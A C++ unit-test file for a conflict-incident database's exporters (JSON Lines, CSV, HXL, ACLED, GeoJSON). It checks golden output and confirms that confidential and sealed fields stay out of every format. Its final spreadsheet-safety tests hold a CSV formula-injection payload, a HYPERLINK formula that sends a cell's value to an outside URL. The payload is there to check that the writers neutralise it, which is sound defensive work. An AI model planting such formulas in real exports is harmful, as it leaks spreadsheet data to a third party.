// The writers alone: golden output, confidential fields, cells a spreadsheet
// would run. That the readers of src/ingest give the output back is
// tests/export_roundtrip_test.cc.
#include "export/export.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "base/status_testing.h"
#include "export/export_testing.h"
#include "record/canonical.h"
#include "record/schema.h"
#include "record/seal.h"
#include "tabular/csv.h"

namespace lifeline::exports {
namespace {

TEST(ConfidentialTest, NeverInAnyFormat) {
  const std::vector<json> all = AllRecords();
  for (const json& r : all) ASSERT_TRUE(r.contains("confidential")) << r["id"];

  auto jsonl = WriteJsonLines(all);
  ASSERT_OK(jsonl);
  ExpectNoSecret(*jsonl, "JSON Lines");

  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(all, kind);
    ASSERT_OK(csv) << kind;
    ExpectNoSecret(*csv, "CSV of " + kind);
  }
  auto hxl = WriteHxlCsv(all);
  ASSERT_OK(hxl);
  ExpectNoSecret(*hxl, "HXL");

  auto acled = WriteAcledCsv(all);
  ASSERT_OK(acled);
  ExpectNoSecret(*acled, "ACLED");

  auto geo = WriteGeoJson(all);
  ASSERT_OK(geo);
  ExpectNoSecret(geo->text, "GeoJSON");
}

// As the log holds them: confidential sealed (record/seal.h). Neither the
// sealed object nor any of its bytes is exported.
TEST(ConfidentialTest, SealedObjectsAreNeverExportedEither) {
  std::vector<json> all = AllRecords();
  const record::SealKey key = record::SealKey::Generate();
  std::vector<std::string> blobs;
  for (json& r : all) {
    ASSERT_TRUE(record::SealRecord(&r, &key).ok()) << r["id"];
    ASSERT_TRUE(record::IsSealedShape(r["confidential"])) << r["id"];
    blobs.push_back(r["confidential"]["sealed"].get<std::string>());
  }
  auto expect_clean = [&](const std::string& text, const std::string& what) {
    ExpectNoSecret(text, what);
    EXPECT_EQ(text.find("xchacha20poly1305"), std::string::npos) << what << " carries a sealed object";
    for (const auto& b : blobs) EXPECT_EQ(text.find(b.substr(0, 24)), std::string::npos) << what << " carries sealed bytes";
  };
  auto jsonl = WriteJsonLines(all);
  ASSERT_OK(jsonl);
  expect_clean(*jsonl, "JSON Lines");
  for (const std::string& kind : record::Kinds()) {
    auto csv = WriteCsv(all, kind);
    ASSERT_OK(csv) << kind;
    expect_clean(*csv, "CSV of " + kind);
  }
  auto hxl = WriteHxlCsv(all);
  ASSERT_OK(hxl);
  expect_clean(*hxl, "HXL");
  auto acled = WriteAcledCsv(all);
  ASSERT_OK(acled);
  expect_clean(*acled, "ACLED");
  auto geo = WriteGeoJson(all);
  ASSERT_OK(geo);
  expect_clean(geo->text, "GeoJSON");
}

TEST(ConfidentialTest, InputIsNotModified) {
  const std::vector<json> all = AllRecords();
  const std::vector<json> copy = all;
  ASSERT_TRUE(WriteJsonLines(all).ok());
  ASSERT_TRUE(WriteCsv(all, "incident").ok());
  EXPECT_EQ(all, copy);
}

TEST(DeterminismTest, SameRecordsSameBytes) {
  const std::vector<json> all = AllRecords();
  EXPECT_EQ(*WriteJsonLines(all), *WriteJsonLines(AllRecords()));
  EXPECT_EQ(*WriteCsv(all, "incident"), *WriteCsv(AllRecords(), "incident"));
  EXPECT_EQ(*WriteHxlCsv(all), *WriteHxlCsv(AllRecords()));
  EXPECT_EQ(*WriteAcledCsv(all), *WriteAcledCsv(AllRecords()));
  EXPECT_EQ(WriteGeoJson(all)->text, WriteGeoJson(AllRecords())->text);
}

TEST(InputTest, EveryWriterRejectsANonObject) {
  std::vector<json> bad = {Incident1(), json::array({1, 2})};
  EXPECT_EQ(WriteJsonLines(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteCsv(bad, "incident").status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteHxlCsv(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteAcledCsv(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_EQ(WriteGeoJson(bad).status().code(), ErrorCode::kInvalidArgument);
  EXPECT_NE(WriteCsv(bad, "incident").status().message().find("record 1"), std::string::npos);
}

TEST(JsonLinesTest, GoldenCanonicalLines) {
  std::vector<json> records = {CrossingRoute(), Source()};
  auto out = WriteJsonLines(records);
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "{\"by\":\"editor@example.org\",\"case\":\"case-x\",\"id\":\"route-crossing\","
            "\"kind\":\"route\",\"name\":\"North crossing\",\"path\":[[41.25,45.125]],"
            "\"recorded\":\"2023-01-01T00:00:00Z\",\"sources\":[\"src-a\"],\"type\":\"crossing\"}\n"
            "{\"by\":\"editor@example.org\",\"case\":\"case-x\",\"credibility\":2,\"id\":\"src-a\","
            "\"kind\":\"source\",\"publisher\":\"ICRC\",\"publisher_type\":\"intergovernmental\","
            "\"recorded\":\"2023-01-01T00:00:00Z\",\"title\":\"Press release, 19 September\","
            "\"url\":\"https://example.org/a\"}\n");
}

TEST(JsonLinesTest, KeepsUnicodeAndEscapesAsJcsDoes) {
  json r = {{"kind", "note"}, {"id", "u"}, {"text", "Ստեփանակերտ \u00e9\t\"q\"\n"}};
  auto out = WriteJsonLines(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_EQ(*out, "{\"id\":\"u\",\"kind\":\"note\",\"text\":\"Ստեփանակերտ é\\t\\\"q\\\"\\n\"}\n");
}

TEST(JsonLinesTest, RefusesNumbersJcsCannotWrite) {
  json r = {{"kind", "stock"}, {"id", "s"}, {"quantity", 9007199254740993ULL}};
  auto out = WriteJsonLines(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_EQ(out.status().code(), ErrorCode::kInvalidArgument);
  EXPECT_NE(out.status().message().find("record \"s\""), std::string::npos) << out.status().message();
}

TEST(JsonLinesTest, EmptyInputIsEmptyFile) { EXPECT_EQ(*WriteJsonLines({}), ""); }

TEST(CsvTest, GoldenIncidents) {
  std::vector<json> records = {Incident1(), Incident3(), Source()};
  auto out = WriteCsv(records, "incident");
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,case,sources,supersedes,note,recorded,by,date,date_precision,location.name,"
            "location.admin1,location.admin2,location.admin3,location.country,location.lat,"
            "location.lon,location.geo_precision,event_type,sub_event_type,access_constraint,"
            "actors,fatalities.low,fatalities.best,fatalities.high,injuries,description,cause,"
            "casualties\r\n"
            "inc-1,case-x,src-a;src-b,,two reports,2023-09-20T08:15:00Z,editor@example.org,"
            "2023-09-19,,\"Northtown, centre\",East Province,Hill District,,AZE,39.81534567890123,"
            "46.7519,1,Explosions/Remote violence,Shelling/artillery/missile attack,,"
            "\"Party A;Militia, east\",2,3,5,11,"
            "\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",,\r\n"
            "inc-3,case-x,src-a,,,2023-01-02T03:04:05Z,editor@example.org,2022-01-01,year,"
            "Southvale,,,,,,,,Strategic developments,,3,,,,,,,,\r\n");
}

TEST(CsvTest, GoldenNestedAndJsonCells) {
  auto out = WriteCsv(std::vector<json>{Movement(), Baseline(), Obligation()}, "movement");
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,case,sources,supersedes,note,recorded,by,route,date,date_precision,direction,"
            "operator,outcome,vehicles,persons,patients,cargo,period.from,period.to,qualifier,"
            "reported_by,via\r\n"
            "mv-1,case-x,src-a,,,2023-10-01T00:00:00Z,editor@example.org,route-road,2023-09-30,,"
            "in,ICRC,completed,12,3,,"
            "\"[{\"\"commodity\"\":\"\"flour\"\",\"\"quantity\"\":20000,\"\"unit\"\":\"\"kg\"\"},"
            "{\"\"commodity\"\":\"\"fuel\"\",\"\"note\"\":\"\"diesel, \\\"\"winter\\\"\"\"\","
            "\"\"quantity\"\":1.5,\"\"unit\"\":\"\"l\"\"}]\",,,,,\r\n");

  auto baseline = WriteCsv(std::vector<json>{Baseline()}, "baseline");
  ASSERT_OK(baseline);
  EXPECT_EQ(*baseline,
            "id,case,sources,supersedes,note,recorded,by,route,period.from,period.to,"
            "per_day.vehicles,per_day.persons,per_day.patients,per_day.cargo,directions\r\n"
            "bl-1,case-x,src-a,,,2023-02-23T00:00:00Z,editor@example.org,route-road,2022-01-01,"
            "2022-06-30,400,,,"
            "\"[{\"\"commodity\"\":\"\"food\"\",\"\"quantity\"\":400,\"\"unit\"\":\"\"t\"\"}]\",\r\n");

  auto obligation = WriteCsv(std::vector<json>{Obligation()}, "obligation");
  ASSERT_OK(obligation);
  EXPECT_EQ(*obligation,
            "id,case,sources,supersedes,note,recorded,by,instrument,title,issued,issuer,binding_on,"
            "text,rule.type,rule.route,rule.for,rule.directions,rule.from,rule.until,rule.utility,rule.area,"
            "rule.commodity,rule.routes,rule.measure,rule.unit,rule.quantity,rule.per,rule.reason\r\n"
            "ob-1,case-x,src-a,,,2023-02-23T00:00:00Z,editor@example.org,interim_measure,"
            "Order of 22 February,2023-02-22,Court,Party A;Party B,,route_open,route-road,"
            "persons;vehicles;cargo,in;out,2023-02-22,,,,,,,,,,\r\n");
}

TEST(CsvTest, EscapesCommasQuotesAndLineBreaksPerRfc4180) {
  json r = Incident3();
  r["description"] = "a,b \"c\"\r\nd\re\nf";
  r["note"] = "plain";
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",plain,"), std::string::npos);  // no quotes when none are needed
  EXPECT_NE(out->find(",\"a,b \"\"c\"\"\r\nd\re\nf\",,\r\n"), std::string::npos) << *out;
  // An independent RFC 4180 reader gets the value back exactly.
  tabular::CsvTable table = tabular::ParseCsv(*out);
  ASSERT_TRUE(table.errors.empty());
  ASSERT_EQ(table.records.size(), 2u);
  const std::vector<std::string> header = CsvColumns("incident");
  ASSERT_EQ(table.records[0].fields, header);
  ASSERT_EQ(table.records[1].fields.size(), header.size());
  const auto& fields = table.records[1].fields;
  EXPECT_EQ(fields[fields.size() - 3], "a,b \"c\"\r\nd\re\nf");  // then cause and casualties
}

TEST(CsvTest, ListsWithSeparatorsOrEmptyItemsBecomeJson) {
  json r = Incident3();
  r["actors"] = {"A; B", "C"};
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",\"[\"\"A; B\"\",\"\"C\"\"]\","), std::string::npos) << *out;
  r["actors"] = {"A", ""};
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_OK(out);
  EXPECT_NE(out->find(",\"[\"\"A\"\",\"\"\"\"]\","), std::string::npos) << *out;
}

TEST(CsvTest, EveryKindHasAHeaderAndRowsOfItsWidth) {
  const std::vector<json> all = AllRecords();
  for (const std::string& kind : record::Kinds()) {
    auto out = WriteCsv(all, kind);
    ASSERT_OK(out) << kind;
    tabular::CsvTable table = tabular::ParseCsv(*out);
    ASSERT_TRUE(table.errors.empty()) << kind;
    ASSERT_GE(table.records.size(), 1u) << kind;
    EXPECT_EQ(table.records[0].fields, CsvColumns(kind)) << kind;
    size_t expected_rows = 0;
    for (const json& r : all) expected_rows += r["kind"] == kind;
    EXPECT_EQ(table.records.size(), expected_rows + 1) << kind;
    for (const auto& row : table.records) EXPECT_EQ(row.fields.size(), CsvColumns(kind).size()) << kind;
  }
}

// The column table in csv.cc repeats the schema's field order, which
// src/record keeps private; this catches a field added to one but not the
// other.
TEST(CsvTest, ColumnsCoverExactlyTheSchemaFields) {
  const json schema = record::JsonSchema();
  const std::set<std::string> envelope = {"kind", "id",         "case",     "sources", "supersedes",
                                          "note", "confidential", "recorded", "by"};
  ASSERT_EQ(schema["oneOf"].size(), record::Kinds().size());
  for (const json& k : schema["oneOf"]) {
    const std::string kind = k["title"];
    std::set<std::string> fields;
    for (auto it = k["properties"].begin(); it != k["properties"].end(); ++it) {
      if (!envelope.count(it.key())) fields.insert(it.key());
    }
    std::set<std::string> columns;
    for (const std::string& c : CsvColumns(kind)) columns.insert(c.substr(0, c.find('.')));
    for (const char* e : {"id", "case", "sources", "supersedes", "note", "recorded", "by"}) {
      EXPECT_EQ(columns.erase(e), 1u) << kind << ": envelope column " << e;
    }
    EXPECT_EQ(columns, fields) << kind;
  }
  // Location columns against the schema's location definition.
  std::set<std::string> loc_fields, loc_columns;
  for (auto it = schema["$defs"]["location"]["properties"].begin();
       it != schema["$defs"]["location"]["properties"].end(); ++it) {
    loc_fields.insert("location." + it.key());
  }
  for (const std::string& c : CsvColumns("incident")) {
    if (c.starts_with("location.")) loc_columns.insert(c);
  }
  EXPECT_EQ(loc_columns, loc_fields);
}

TEST(CsvTest, RefusesUnknownKindsAndFieldsWithoutAColumn) {
  auto bad_kind = WriteCsv(AllRecords(), "incidents");
  EXPECT_EQ(bad_kind.status().code(), ErrorCode::kInvalidArgument);
  EXPECT_TRUE(CsvColumns("incidents").empty());

  json r = Incident3();
  r["weather"] = "rain";
  auto out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-3\": weather"), std::string::npos)
      << out.status().message();

  r = Incident3();
  r["location"]["altitude"] = 3;
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("location.altitude"), std::string::npos)
      << out.status().message();

  r = Incident3();
  r["location"]["name"] = json::array({"x"});
  out = WriteCsv(std::vector<json>{r}, "incident");
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("location.name"), std::string::npos) << out.status().message();
}

TEST(CsvTest, NoRecordsGivesTheHeaderOnly) {
  EXPECT_EQ(*WriteCsv({}, "claim"), "id,case,sources,supersedes,note,recorded,by,about,stance,party,text,field,value\r\n");
}

TEST(HxlTest, GoldenIncidents) {
  auto out = WriteHxlCsv(std::vector<json>{Incident1(), Incident3()});
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,kind,date,date_precision,location.admin1,location.admin2,location.admin3,"
            "location.name,location.country,location.lat,location.lon,location.geo_precision,"
            "event_type,sub_event_type,access_constraint,actors[0],actors[1],fatalities.best,"
            "fatalities.low,fatalities.high,injuries,description,sources,case,supersedes,note,"
            "recorded,by\r\n"
            "#meta+id,#meta+kind,#date+occurred,#meta+date_precision,#adm1+name,#adm2+name,"
            "#adm3+name,#loc+name,#country+code,#geo+lat,#geo+lon,#meta+geo_precision,#event+type,"
            "#event+type+sub,#access+code,#group+name,#group+name,#affected+killed,"
            "#affected+killed+min,#affected+killed+max,#affected+injured,#description,"
            "#meta+source,#meta+case,#meta+supersedes,#meta+note,#meta+recorded,#meta+by\r\n"
            "inc-1,incident,2023-09-19,,East Province,Hill District,,\"Northtown, centre\",AZE,"
            "39.81534567890123,46.7519,1,Explosions/Remote violence,"
            "Shelling/artillery/missile attack,,Party A,\"Militia, east\",3,2,5,11,"
            "\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",src-a;src-b,case-x,,"
            "two reports,2023-09-20T08:15:00Z,editor@example.org\r\n"
            "inc-3,incident,2022-01-01,year,,,,Southvale,,,,,Strategic developments,,3,,,,,,,,"
            "src-a,case-x,,,2023-01-02T03:04:05Z,editor@example.org\r\n");
}

TEST(HxlTest, MovementColumnsAndOtherKindsEnvelopeOnly) {
  auto out = WriteHxlCsv(std::vector<json>{Movement(), RouteStatus()});
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            "id,kind,date,date_precision,route,direction,operator,outcome,vehicles,persons,"
            "patients,cargo,period.from,period.to,sources,case,supersedes,note,recorded,by\r\n"
            "#meta+id,#meta+kind,#date+occurred,#meta+date_precision,#meta+route,"
            "#indicator+direction,#org+operator,#status+outcome,#indicator+vehicles+num,"
            "#indicator+persons+num,#indicator+patients+num,#item+cargo,#date+start,#date+end,#meta+source,#meta+case,"
            "#meta+supersedes,#meta+note,#meta+recorded,#meta+by\r\n"
            "mv-1,movement,2023-09-30,,route-road,in,ICRC,completed,12,3,,"
            "\"[{\"\"commodity\"\":\"\"flour\"\",\"\"quantity\"\":20000,\"\"unit\"\":\"\"kg\"\"},"
            "{\"\"commodity\"\":\"\"fuel\"\",\"\"note\"\":\"\"diesel, \\\"\"winter\\\"\"\"\","
            "\"\"quantity\"\":1.5,\"\"unit\"\":\"\"l\"\"}]\",,,src-a,case-x,,,2023-10-01T00:00:00Z,"
            "editor@example.org\r\n"
            "rs-1,route_status,,,,,,,,,,,,,src-a,case-x,,,2023-09-20T00:00:00Z,editor@example.org\r\n");
}

TEST(HxlTest, NoRecordsGivesEnvelopeColumnsOnly) {
  EXPECT_EQ(*WriteHxlCsv({}),
            "id,kind,sources,case,supersedes,note,recorded,by\r\n"
            "#meta+id,#meta+kind,#meta+source,#meta+case,#meta+supersedes,#meta+note,#meta+recorded,"
            "#meta+by\r\n");
}

TEST(AcledTest, GoldenRows) {
  auto out = WriteAcledCsv(AllRecords());  // other kinds are left out
  ASSERT_OK(out);
  EXPECT_EQ(*out,
            std::string(kAcledHeader) +
                "inc-1,2023-09-19,2023,1,,Explosions/Remote violence,"
                "Shelling/artillery/missile attack,Party A,,,\"Militia, east\",,,,,31,,Azerbaijan,"
                "East Province,Hill District,,\"Northtown, centre\",39.81534567890123,46.7519,1,"
                "two reports,,\"Shelling hit a \"\"market\"\", then\nthe hospital road.\",3,"
                "sources=src-a;src-b; fatalities_low=2; fatalities_high=5; injuries=11,1695197700\r\n"
                "SYR123,2023-10-15,2023,3,,Battles,,Party C,,,Party D,,,,,760,,Syria,West,,,Riverside,"
                "35,-36.5,,Local media; Radio X,,Clashes.,0,actor=Party E; sources=src-acled-x,"
                "1697752800\r\n"
                "inc-3,2022-01-01,2022,3,,Strategic developments,,,,,,,,,,,,,,,,Southvale,,,,src-a,,,"
                "0,date_precision=year; access_constraint=3,1672628645\r\n");
}

TEST(AcledTest, ReconstructsAcledEventIds) {
  json r = Incident2();
  r["id"] = "acled-arm4567";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_TRUE(out->starts_with(std::string(kAcledHeader) + "ARM4567,")) << *out;
}

TEST(AcledTest, UnassignedCountryCodeIsKeptAsTheName) {
  json r = Incident3();
  r["location"]["country"] = "XKX";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_OK(out);
  EXPECT_NE(out->find(",,,XKX,,,,Southvale,"), std::string::npos) << *out;
}

TEST(AcledTest, BadDatePrecisionAndRecordedAreErrors) {
  json r = Incident3();
  r["date_precision"] = "decade";
  auto out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-3\": date_precision"), std::string::npos);
  r = Incident3();
  r["recorded"] = "yesterday";
  out = WriteAcledCsv(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("recorded"), std::string::npos);
}

TEST(GeoJsonTest, GoldenFeatureCollection) {
  auto out = WriteGeoJson(AllRecords());
  ASSERT_OK(out);
  EXPECT_EQ(out->features, 4u);
  EXPECT_EQ(out->skipped_without_coordinates, 3u);  // inc-3, route-stub, route-air
  EXPECT_EQ(out->not_geographic, 6u);
  EXPECT_EQ(out->text,
            "{\"type\":\"FeatureCollection\",\"features\":[\n"
            "{\"geometry\":{\"coordinates\":[46.7519,39.81534567890123],\"type\":\"Point\"},"
            "\"id\":\"inc-1\",\"properties\":{\"date\":\"2023-09-19\",\"description\":"
            "\"Shelling hit a \\\"market\\\", then\\nthe hospital road.\",\"event_type\":"
            "\"Explosions/Remote violence\",\"fatalities\":3,\"id\":\"inc-1\",\"kind\":\"incident\","
            "\"location\":\"Northtown, centre\",\"sources\":[\"src-a\",\"src-b\"]},\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[-36.5,35],\"type\":\"Point\"},\"id\":\"acled-syr123\","
            "\"properties\":{\"date\":\"2023-10-15\",\"date_precision\":\"month\",\"description\":"
            "\"Clashes.\",\"event_type\":\"Battles\",\"fatalities\":0,\"id\":\"acled-syr123\","
            "\"kind\":\"incident\",\"location\":\"Riverside\",\"sources\":[\"src-acled-x\"]},"
            "\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[[46.75,39.8],[46.6,39.6],[46.5,39.5123456789012]],"
            "\"type\":\"LineString\"},\"id\":\"route-road\",\"properties\":{\"from\":\"Northtown\","
            "\"id\":\"route-road\",\"kind\":\"route\",\"name\":\"Corridor road\",\"sources\":"
            "[\"src-a\"],\"to\":\"Border\",\"type\":\"road\"},\"type\":\"Feature\"},\n"
            "{\"geometry\":{\"coordinates\":[45.125,41.25],\"type\":\"Point\"},\"id\":"
            "\"route-crossing\",\"properties\":{\"id\":\"route-crossing\",\"kind\":\"route\","
            "\"name\":\"North crossing\",\"sources\":[\"src-a\"],\"type\":\"crossing\"},"
            "\"type\":\"Feature\"}\n"
            "]}\n");
}

TEST(GeoJsonTest, CoordinatesAreLonLatWithFullPrecision) {
  auto out = WriteGeoJson(AllRecords());
  ASSERT_OK(out);
  json fc = json::parse(out->text);
  ASSERT_EQ(fc["type"], "FeatureCollection");
  ASSERT_EQ(fc["features"].size(), 4u);
  const json& point = fc["features"][0]["geometry"]["coordinates"];
  EXPECT_EQ(point[0].get<double>(), 46.7519);            // lon
  EXPECT_EQ(point[1].get<double>(), 39.81534567890123);  // lat, every digit
  const json& line = fc["features"][2]["geometry"]["coordinates"];
  const json path = RoadRoute()["path"];
  ASSERT_EQ(line.size(), path.size());
  for (size_t i = 0; i < path.size(); ++i) {
    EXPECT_EQ(line[i][0], path[i][1]);
    EXPECT_EQ(line[i][1], path[i][0]);
  }
}

TEST(GeoJsonTest, EmptyCollection) {
  auto out = WriteGeoJson(std::vector<json>{Movement(), Incident3()});
  ASSERT_OK(out);
  EXPECT_EQ(out->text, "{\"type\":\"FeatureCollection\",\"features\":[]}\n");
  EXPECT_EQ(out->features, 0u);
  EXPECT_EQ(out->skipped_without_coordinates, 1u);
  EXPECT_EQ(out->not_geographic, 1u);
  EXPECT_TRUE(json::parse(out->text)["features"].empty());
}

TEST(GeoJsonTest, OutOfRangeOrNonNumericCoordinatesAreErrors) {
  json r = Incident1();
  r["location"]["lat"] = 91;
  auto out = WriteGeoJson(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("record \"inc-1\": location"), std::string::npos)
      << out.status().message();
  r = RoadRoute();
  r["path"][1] = {"39.6", 46.6};
  out = WriteGeoJson(std::vector<json>{r});
  ASSERT_FALSE(out.ok());
  EXPECT_NE(out.status().message().find("path[1]"), std::string::npos) << out.status().message();
}

TEST(SpreadsheetSafeTest, NoCellOfAnyCsvFormatStartsAFormula) {
  for (const std::string& prefix : kFormulaStarts) {
    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {})) {
      size_t neutralised = 0;
      for (const std::string& cell : RawCells(file)) {
        EXPECT_FALSE(StartsAFormula(cell)) << what << ": " << ::testing::PrintToString(cell);
        neutralised += cell.starts_with("'" + prefix);
      }
      EXPECT_GT(neutralised, 0u) << what << ": the fixture put no dangerous cell in the file";
      // The numbers stay numbers.
      if (what == "csv incident" || what == "hxl" || what == "acled") {
        EXPECT_NE(file.find(",-45.2,"), std::string::npos) << what;
      }
    }
  }
}

TEST(SpreadsheetSafeTest, RawWritesCellsVerbatim) {
  for (const std::string& prefix : kFormulaStarts) {
    SCOPED_TRACE("prefix " + record::Canonicalize(json(prefix)).value());
    const std::string description = prefix + "HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
    for (const auto& [what, file] : EveryCsvFile(DangerousRecords(prefix), {.raw = true})) {
      if (what != "csv incident" && what != "hxl" && what != "acled") continue;
      std::vector<std::string> cells = RawCells(file);
      EXPECT_NE(std::find(cells.begin(), cells.end(), description), cells.end()) << what;
      for (const std::string& cell : cells) EXPECT_FALSE(cell.starts_with("'" + prefix)) << what;
    }
  }
}

}  // namespace
}  // namespace lifeline::exports
